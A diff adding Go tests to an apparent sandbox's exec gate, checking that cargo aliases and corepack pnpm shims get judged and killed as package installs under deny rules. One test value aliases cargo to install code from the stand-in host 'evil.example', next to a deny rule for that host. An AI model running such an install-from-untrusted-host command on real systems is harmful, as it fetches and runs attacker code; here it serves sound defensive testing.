@@ -1607,3 +1607,121 @@ target     = { resource = "python3" }
 func gitFormArgv(r grants.Request, ev sandbox.ExecEvent) bool {
 	return r.Target.Resource == "git" && len(r.Argv) > 0 && len(ev.Argv) > 0 && slices.Equal(r.Argv[1:], ev.Argv[1:])
 }
+
+// TestExecGateCargoAlias: cargo expands an [alias] in its own process, so
+// the gate sees only `cargo i`: at its exec the alias the project's
+// .cargo/config.toml defines then (a command of the line wrote it) is
+// read, and its expansion decided as the install it is (issue 16): a deny
+// rule on the host it installs from kills it; an alias to a build runs.
+// The cargo here is a stand-in on PATH: nothing reaches a network.
+func TestExecGateCargoAlias(t *testing.T) {
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	marker := filepath.Join(ws, "ran")
+	files := map[string]string{
+		"bin/cargo": "#!/bin/sh\necho \"$@\" > " + marker + "\n",
+		"alias.sh":  "#!/bin/sh\nmkdir -p .cargo\nprintf '[alias]\\ni = \"%s\"\\n' \"$1\" > .cargo/config.toml\ncargo i\necho rc=$?\n",
+	}
+	for name, body := range files {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	const denyEvil = "\n[[rules.deny]]\nrule_id = \"no-evil\"\ncapability = \"package.install\"\ntarget = { host = \"evil.example\" }\n"
+	p := policyFor(t, ws, `profile = "interactive-dev"`+denyEvil)
+	for _, tc := range []struct {
+		alias   string
+		wantRun bool
+	}{
+		{"install --git https://evil.example/x x", false},
+		{"build --release", true},
+	} {
+		os.Remove(marker)
+		o := runTool(t, &Tool{}, approvingEnv(p, nil), "PATH="+ws+"/bin:$PATH ./alias.sh '"+tc.alias+"'")
+		_, err := os.Stat(marker)
+		if ran := err == nil; ran != tc.wantRun {
+			t.Errorf("%q: cargo ran = %v, want %v (stdout %q stderr %q refused %q)", tc.alias, ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
+		}
+		if !tc.wantRun && (o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-evil")) {
+			t.Errorf("%q: stdout %q, refused %q: want cargo killed by no-evil", tc.alias, o.Stdout, o.RefusedPrograms)
+		}
+	}
+}
+
+// TestExecGateCorepackShim: after `corepack enable`, `pnpm` is a link to
+// corepack's dist/pnpm.js, which fetches the pnpm the project's
+// packageManager names before it runs: its exec is decided as that
+// install (issue 16), so a deny rule naming pnpm@9.1.0 kills it, while a
+// project on another version runs. The shim here is a shell stand-in in a
+// corepack layout (run through env, as corepack's own shebang is):
+// nothing reaches a network.
+func TestExecGateCorepackShim(t *testing.T) {
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	marker := filepath.Join(ws, "ran")
+	dist := filepath.Join(ws, "lib", "node_modules", "corepack", "dist")
+	files := map[string]string{
+		filepath.Join(dist, "pnpm.js"):           "#!/usr/bin/env sh\necho \"$@\" > " + marker + "\n",
+		filepath.Join(ws, "new", "package.json"): `{"packageManager": "pnpm@9.1.0"}`,
+		filepath.Join(ws, "old", "package.json"): `{"packageManager": "pnpm@8.15.0"}`,
+	}
+	for name, body := range files {
+		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(name, []byte(body), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.MkdirAll(filepath.Join(ws, "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(filepath.Join(dist, "pnpm.js"), filepath.Join(ws, "bin", "pnpm")); err != nil {
+		t.Fatal(err)
+	}
+	const deny = "\n[[rules.deny]]\nrule_id = \"no-pnpm9\"\ncapability = \"package.install\"\ntarget = { resource = \"pnpm@9.1.0\" }\n"
+	p := policyFor(t, ws, `profile = "interactive-dev"`+deny)
+	for _, tc := range []struct {
+		dir     string
+		wantRun bool
+	}{
+		{"new", false},
+		{"old", true},
+	} {
+		os.Remove(marker)
+		o := runTool(t, &Tool{}, approvingEnv(p, nil), "cd "+tc.dir+" && PATH="+ws+"/bin:$PATH pnpm --version; echo rc=$?")
+		_, err := os.Stat(marker)
+		if ran := err == nil; ran != tc.wantRun {
+			t.Errorf("%s: pnpm ran = %v, want %v (stdout %q stderr %q refused %q)", tc.dir, ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
+		}
+		if !tc.wantRun && (o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-pnpm9")) {
+			t.Errorf("%s: stdout %q, refused %q: want pnpm killed by no-pnpm9", tc.dir, o.Stdout, o.RefusedPrograms)
+		}
+	}
+}
+
+// TestExecGateRealCorepackShim: the same with this machine's corepack
+// (node ships it): `corepack enable --install-directory bin pnpm` makes
+// the link, and its exec (env, then node, running dist/pnpm.js) is
+// killed by the deny rule before corepack reaches the network.
+func TestExecGateRealCorepackShim(t *testing.T) {
+	if _, err := exec.LookPath("corepack"); err != nil {
+		t.Skip("corepack not found")
+	}
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	if err := os.WriteFile(filepath.Join(ws, "package.json"), []byte(`{"packageManager": "pnpm@9.1.0"}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Join(ws, "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("corepack", "enable", "--install-directory", filepath.Join(ws, "bin"), "pnpm").CombinedOutput(); err != nil {
+		t.Fatalf("corepack enable: %v: %s", err, out)
+	}
+	const deny = "\n[[rules.deny]]\nrule_id = \"no-pnpm9\"\ncapability = \"package.install\"\ntarget = { resource = \"pnpm@9.1.0\" }\n"
+	o := runTool(t, &Tool{}, approvingEnv(policyFor(t, ws, `profile = "interactive-dev"`+deny), nil), "bin/pnpm --version; echo rc=$?")
+	if o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-pnpm9") {
+		t.Errorf("stdout %q stderr %q, refused %q: want the shim killed by no-pnpm9", o.Stdout, o.Stderr, o.RefusedPrograms)
+	}
+}
